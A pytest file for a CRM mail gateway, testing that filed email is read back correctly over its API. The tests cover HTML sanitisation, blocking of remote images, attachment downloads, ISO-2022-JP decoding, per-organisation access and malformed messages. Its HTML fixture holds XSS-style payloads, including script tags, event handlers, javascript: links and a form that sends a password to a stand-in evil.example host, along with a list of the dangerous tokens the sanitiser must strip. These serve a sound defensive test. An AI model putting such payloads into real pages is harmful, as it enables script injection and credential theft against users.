"""Reading filed mail: ``/api/v1/emails/{id}``, ``/raw`` and ``/attachments/{n}``.

Mail goes in through the dropbox over real SMTP and is read back over the HTTP
API of the running server, on both engines.
"""

from __future__ import annotations

import re
import smtplib
import uuid
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path
from urllib.parse import unquote

import pytest

from tests.support.server import wait_until

#: The shared corpora live beside the project checkout (see corpora/README.md).
CORPORA = Path(__file__).resolve().parents[1].parent / "shared" / "corpora"

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x01\x02\xff" * 16
HOSTILE_HTML = """<html><head><style>body{background:url(https://evil.example/css)}</style>
<script>alert('script')</script></head><body>
<p style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert('click')">本文</p>
<img src="https://tracker.example/pixel.gif" alt="pixel" onerror="alert('onerror')">
<img src="cid:logo@acme">
<img src="data:image/png;base64,iVBORw0KGgo=">
<a href="javascript:alert('js')">js link</a>
<a href="vbscript:msgbox">vb link</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>
<a href="https://acme.example/page">good link</a>
<svg onload="alert('svg')"><script>alert('svg2')</script></svg>
<form action="https://evil.example/steal"><input name="password"></form>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object>
</body></html>"""


def deliver(mailgate, raw: bytes, rcpt: str, mail_from: str) -> None:
    with smtplib.SMTP("127.0.0.1", mailgate.smtp_port, timeout=30) as s:
        s.sendmail(mail_from, [rcpt], raw)


def headers(msg, frm: str, to: str, subject: str) -> None:
    msg["From"] = frm
    msg["To"] = to
    msg["Subject"] = Header(subject, "utf-8")
    msg["Message-ID"] = f"<{uuid.uuid4().hex}@acme.co.jp>"


def html_mail(frm: str, to: str) -> bytes:
    msg = MIMEMultipart("mixed")
    headers(msg, frm, to, "html")
    related = MIMEMultipart("related")
    alternative = MIMEMultipart("alternative")
    alternative.attach(MIMEText("テキスト版です", "plain", "utf-8"))
    alternative.attach(MIMEText(HOSTILE_HTML, "html", "utf-8"))
    related.attach(alternative)
    logo = MIMEImage(PNG, "png")
    logo["Content-ID"] = "<logo@acme>"
    logo.add_header("Content-Disposition", "inline", filename="logo.png")
    related.attach(logo)
    msg.attach(related)
    rfc2231 = MIMEApplication(PDF, "pdf")
    rfc2231.add_header("Content-Disposition", "attachment", filename=("utf-8", "", "見積書.pdf"))
    msg.attach(rfc2231)
    rfc2047 = MIMEApplication(PDF[::-1], "octet-stream")
    rfc2047.add_header(
        "Content-Disposition", "attachment", filename=Header("請求書 2026.pdf", "utf-8").encode()
    )
    msg.attach(rfc2047)
    svg = MIMEText("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "svg+xml")
    svg.replace_header("Content-Type", "image/svg+xml")
    svg.add_header("Content-Disposition", "attachment", filename="a.svg")
    msg.attach(svg)
    page = MIMEText("<script>alert(1)</script>", "html", "utf-8")
    page.add_header("Content-Disposition", "attachment", filename="page.html")
    msg.attach(page)
    return msg.as_bytes()


def jis_mail(frm: str, to: str) -> bytes:
    msg = MIMEText("お世話になっております。\n見積書を送ります。", "plain", "iso-2022-jp")
    msg["From"] = frm
    msg["To"] = to
    msg["Subject"] = Header("お見積り", "iso-2022-jp")
    msg["Message-ID"] = f"<{uuid.uuid4().hex}@acme.co.jp>"
    return msg.as_bytes()


def corpus_mail(path: Path, frm: str, to: str) -> bytes:
    """A malformed corpus message with our From/To put in front of its own header block."""
    raw = path.read_bytes()
    raw = re.sub(rb"(?im)^(from|to|message-id):[^\n]*\n", b"", raw, count=3)
    head = f"From: {frm}\r\nTo: {to}\r\nSubject: corpus {path.name}\r\n"
    head += f"Message-ID: <{uuid.uuid4().hex}@acme.co.jp>\r\n"
    return head.encode() + raw


@pytest.fixture(scope="module")
def mail(mailgate):
    tag = uuid.uuid4().hex[:6]
    domain = f"{tag}.acme.co.jp"
    org = mailgate.org(f"Read {tag}", domains=[domain])
    owner = mailgate.user(org, f"taro@{domain}", "山田 太郎", admin=True)
    colleague = mailgate.user(org, f"jiro@{domain}", "鈴木 次郎")
    api = mailgate.api(owner)
    customer = f"hanako@{tag}.customer.example.jp"
    lead = api.post("/api/v1/leads", json={"last_name": "佐藤", "email": customer}).json()
    frm = owner["email"]
    deliver(mailgate, html_mail(frm, customer), owner["dropbox_address"], frm)
    deliver(mailgate, jis_mail(frm, customer), owner["dropbox_address"], frm)
    corpus = sorted((CORPORA / "malformed" / "malformed").glob("*.eml"))
    for path in corpus:
        deliver(mailgate, corpus_mail(path, frm, customer), owner["dropbox_address"], frm)
    mailgate.settle()

    def filed() -> list[dict]:
        r = api.get(f"/api/v1/leads/{lead['id']}/emails", params={"limit": 500})
        assert r.status_code == 200, r.text
        return r.json()["items"]

    wait_until(lambda: len(filed()) >= 2 + len(corpus) // 2)
    by_subject = {e["subject"]: e["id"] for e in filed()}
    other_org = mailgate.org(f"Other {tag}")
    stranger = mailgate.user(other_org, f"saburo@other-{tag}.example.jp", "他社 三郎")
    return {
        "mailgate": mailgate,
        "api": api,
        "owner": owner,
        "colleague": mailgate.api(colleague),
        "stranger": mailgate.api(stranger),
        "lead": lead,
        "ids": by_subject,
    }


def get(api, path: str, **params):
    r = api.get(path, params=params)
    assert r.status_code == 200, (path, r.status_code, r.text)
    return r


def test_html_loses_scripts_handlers_styles_forms_svg_and_dangerous_urls(mail):
    body = get(mail["api"], f"/api/v1/emails/{mail['ids']['html']}").json()
    html = body["html"].lower()
    assert "本文" in body["html"] and "good link" in html
    for gone in (
        "<script", "alert(", "onclick", "onerror", "onload", "javascript:", "vbscript:",
        "data:", "<style", "style=", "<svg", "<form", "<input", "<iframe", "<object",
        "evil.example",
    ):  # fmt: skip
        assert gone not in html, gone
    assert re.search(r'<a [^>]*href="https://acme.example/page"', body["html"])
    link = re.search(r'<a [^>]*href="https://acme.example/page"[^>]*>', body["html"]).group(0)
    assert 'rel="noopener noreferrer nofollow"' in link and 'target="_blank"' in link
    assert body["text"] == "テキスト版です"
    assert body["records"] == [{"module": "leads", "id": mail["lead"]["id"]}]
    assert body["direction"] == "outgoing" and body["source"] == "dropbox"


def test_remote_images_are_blocked_unless_asked_and_cid_images_point_at_the_attachment(mail):
    eid = mail["ids"]["html"]
    blocked = get(mail["api"], f"/api/v1/emails/{eid}").json()
    assert blocked["images_blocked"] == 1
    assert "tracker.example" not in blocked["html"]
    logo = next(a for a in blocked["attachments"] if a["filename"] == "logo.png")
    assert f'src="/api/v1/emails/{eid}/attachments/{logo["index"]}"' in blocked["html"]
    shown = get(mail["api"], f"/api/v1/emails/{eid}", images="1").json()
    assert shown["images_blocked"] == 0
    assert 'src="https://tracker.example/pixel.gif"' in shown["html"]
    assert "onerror" not in shown["html"]


#: The fields a record's list and the email itself both show, in this order, from one builder.
HEADER_FIELDS = [
    "id", "message_id", "subject", "from", "from_name", "to", "cc", "date", "direction",
    "source", "crm_sent", "shared",
]  # fmt: skip


def test_a_records_list_and_the_email_itself_show_the_same_header_fields(mail):
    """Malformed corpus mail included: the list and the email cannot tell two stories."""
    r = get(mail["api"], f"/api/v1/leads/{mail['lead']['id']}/emails", limit="500")
    listed = r.json()["items"]
    assert len(listed) == len(set(mail["ids"].values())) >= 3
    for item in listed:
        assert list(item)[: len(HEADER_FIELDS)] == HEADER_FIELDS
        one = get(mail["api"], f"/api/v1/emails/{item['id']}").json()
        assert list(one)[: len(HEADER_FIELDS)] == HEADER_FIELDS
        assert {k: one[k] for k in HEADER_FIELDS} == {k: item[k] for k in HEADER_FIELDS}
    jis = next(e for e in listed if e["id"] == mail["ids"]["お見積り"])
    assert jis["subject"] == "お見積り" and jis["crm_sent"] is False and jis["shared"] is True


def test_an_iso_2022_jp_mail_reads_as_japanese(mail):
    body = get(mail["api"], f"/api/v1/emails/{mail['ids']['お見積り']}").json()
    assert (
        body["text"].replace("\r\n", "\n").strip() == "お世話になっております。\n見積書を送ります。"
    )
    assert body["html"] == "" and body["attachments"] == []


def test_attachments_are_listed_with_decoded_names_and_download_byte_exact(mail):
    eid = mail["ids"]["html"]
    items = get(mail["api"], f"/api/v1/emails/{eid}").json()["attachments"]
    named = {a["filename"]: a for a in items}
    assert named["見積書.pdf"]["content_type"] == "application/pdf"
    assert named["見積書.pdf"]["size"] == len(PDF)
    assert named["請求書 2026.pdf"]["size"] == len(PDF)
    for name, data in (("見積書.pdf", PDF), ("請求書 2026.pdf", PDF[::-1])):
        r = get(mail["api"], f"/api/v1/emails/{eid}/attachments/{named[name]['index']}")
        assert r.content == data
        disposition = r.headers["content-disposition"]
        assert disposition.startswith("attachment;")
        star = re.search(r"filename\*=UTF-8''(\S+)", disposition).group(1)
        assert unquote(star) == name
        assert r.headers["x-content-type-options"] == "nosniff"


def test_active_attachment_types_download_as_opaque_bytes(mail):
    eid = mail["ids"]["html"]
    items = get(mail["api"], f"/api/v1/emails/{eid}").json()["attachments"]
    for name in ("a.svg", "page.html"):
        item = next(a for a in items if a["filename"] == name)
        r = get(mail["api"], f"/api/v1/emails/{eid}/attachments/{item['index']}")
        assert r.headers["content-type"].startswith("application/octet-stream"), name
        assert r.headers["content-disposition"].startswith("attachment;")


def test_a_bad_attachment_index_is_404(mail):
    eid = mail["ids"]["html"]
    for n in ("99", "-1", "x", "１"):
        r = mail["api"].get(f"/api/v1/emails/{eid}/attachments/{n}")
        assert r.status_code == 404, (n, r.status_code)


def test_raw_is_the_stored_bytes_as_rfc822(mail):
    eid = mail["ids"]["お見積り"]
    r = get(mail["api"], f"/api/v1/emails/{eid}/raw")
    assert r.headers["content-type"].startswith("message/rfc822")
    assert r.headers["content-disposition"] == f'attachment; filename="message-{eid}.eml"'
    assert b"Subject: =?iso-2022-jp?" in r.content
    assert "お世話になっております".encode("iso-2022-jp")[:-3] in r.content  # no final ESC ( B
    stored = mail["mailgate"].call(_stored_raw(mail["mailgate"], eid))
    assert r.content == stored


async def _stored_raw(mailgate, eid: int) -> bytes:
    from sqlalchemy import select

    from storage.schema import messages

    async with mailgate.db.connect() as conn:
        return bytes(
            (await conn.execute(select(messages.c.raw).where(messages.c.id == eid))).scalar_one()
        )


def test_another_org_gets_404_on_every_endpoint(mail):
    eid = mail["ids"]["html"]
    for path in ("", "/raw", "/attachments/0"):
        assert mail["stranger"].get(f"/api/v1/emails/{eid}{path}").status_code == 404


def test_private_mail_is_404_for_a_colleague_and_200_for_its_owner(mail):
    eid = mail["ids"]["html"]
    api, colleague = mail["api"], mail["colleague"]
    owner_id = mail["owner"]["id"]
    assert colleague.get(f"/api/v1/emails/{eid}").status_code == 200  # public by default
    r = api.put(f"/api/v1/users/{owner_id}/sharing", json={"mode": "private"})
    assert r.status_code == 200, r.text
    try:
        for path in ("", "/raw", "/attachments/0"):
            assert colleague.get(f"/api/v1/emails/{eid}{path}").status_code == 404, path
            assert api.get(f"/api/v1/emails/{eid}{path}").status_code == 200, path
        shared = {"mode": "custom", "records": [{"module": "leads", "id": mail["lead"]["id"]}]}
        assert api.put(f"/api/v1/users/{owner_id}/sharing", json=shared).status_code == 200
        assert colleague.get(f"/api/v1/emails/{eid}").status_code == 200
        assert (
            api.put(
                f"/api/v1/users/{owner_id}/sharing", json={"mode": "custom", "records": []}
            ).status_code
            == 200
        )
        assert colleague.get(f"/api/v1/emails/{eid}").status_code == 404
    finally:
        api.put(f"/api/v1/users/{owner_id}/sharing", json={"mode": "public"})


def test_malformed_corpus_messages_answer_200_without_a_crash(mail):
    corpus = [s for s in mail["ids"] if s.startswith("corpus ")]
    assert corpus, "no corpus message was filed"
    for subject in corpus:
        eid = mail["ids"][subject]
        body = get(mail["api"], f"/api/v1/emails/{eid}").json()
        for item in body["attachments"]:
            get(mail["api"], f"/api/v1/emails/{eid}/attachments/{item['index']}")
        get(mail["api"], f"/api/v1/emails/{eid}/raw")


# -- the MIME walk alone (pure), on the traps the project card names --------------------


def test_empty_message_id_and_undecodable_parts_never_raise():
    from gateway.mailview.parts import view

    raw = (
        b"From: a@acme.co.jp\r\nMessage-Id: <>\r\n"
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n"
        b'--x\r\nContent-Type: application/pdf; name="\xe8\xa6\x8b\xe7\xa9\x8d\xe6\x9b\xb8.pdf"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n!!!not base64@@\r\n"
        b"--x\r\nContent-Type: text/plain; charset=x-unknown\r\n\r\n\xff\xfe text\r\n--x--\r\n"
    )
    mail = view(raw)
    assert "text" in mail.text
    assert [a.filename for a in mail.attachments] == ["見積書.pdf"]  # raw UTF-8 bytes in a header


def test_every_corpus_message_gives_encodable_text_and_names():
    import json

    from gateway.mailview.html import sanitise
    from gateway.mailview.parts import view

    files = sorted(CORPORA.glob("**/*.eml"))
    assert len(files) > 100
    for path in files:
        mail = view(path.read_bytes())
        safe = sanitise(mail.html, images=False, cid_url=lambda cid: None)
        listing = [a.listing() for a in mail.attachments]
        json.dumps([mail.text, safe.html, listing], ensure_ascii=False).encode("utf-8")
